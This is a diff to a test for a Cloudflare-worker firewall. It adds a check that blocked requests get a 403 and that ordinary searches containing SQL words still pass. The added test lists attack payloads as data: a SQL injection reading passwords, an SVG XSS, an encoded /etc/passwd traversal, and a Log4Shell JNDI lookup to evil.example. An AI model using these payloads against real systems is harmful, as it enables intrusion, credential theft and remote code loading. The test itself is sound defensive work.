@@ -50,7 +50,7 @@ describe("a broken rule file never deploys", () => {
 });
 
 describe("scripts/dev.sh runs the firewall under wrangler dev", () => {
-  it("serves the echo origin for allowed requests and the 403 for the blocklist", { timeout: 300_000 }, async () => {
+  it("serves the echo origin for allowed requests, the 403 for the blocklist and for attacks", { timeout: 300_000 }, async () => {
     const port = await freePort();
     const child = spawn("bash", ["scripts/dev.sh", "--inspector-port", String(await freePort())], {
       cwd: ROOT,
@@ -99,6 +99,25 @@ describe("scripts/dev.sh runs the firewall under wrangler dev", () => {
       assert.ok(out.includes('"rule":"blocklist"'));
       const line = out.split("\n").find((l) => l.includes(`"request_id":"${json.request_id}"`));
       assert.match(line, /"country":"DE"/, "the pretended country reaches the decision");
+
+      // The shipped WAF ruleset, on workerd: attacks refused, ordinary
+      // text with SQL words and quotes let through.
+      const ip = { "cf-connecting-ip": "198.51.100.9" };
+      for (const attack of [
+        "/?id=1%20UNION%20SELECT%20password%20FROM%20users--",
+        "/?q=%3Csvg%2Fonload%3Dalert(1)%3E",
+        "/?file=..%252f..%252f..%252fetc%252fpasswd",
+        "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+      ]) {
+        const r = await fetch(`${base}${attack}`, { headers: ip });
+        assert.equal(r.status, 403, attack);
+        assert.equal((await r.json()).message, FORBIDDEN_MESSAGE);
+      }
+      for (const fine of ["/search?q=O%27Reilly%20books", "/search?q=how%20to%20select%20a%20union%20rep"]) {
+        const r = await fetch(`${base}${fine}`, { headers: ip });
+        assert.equal(r.status, 200, fine);
+        await r.arrayBuffer();
+      }
     } finally {
       try {
         process.kill(-child.pid, "SIGTERM");
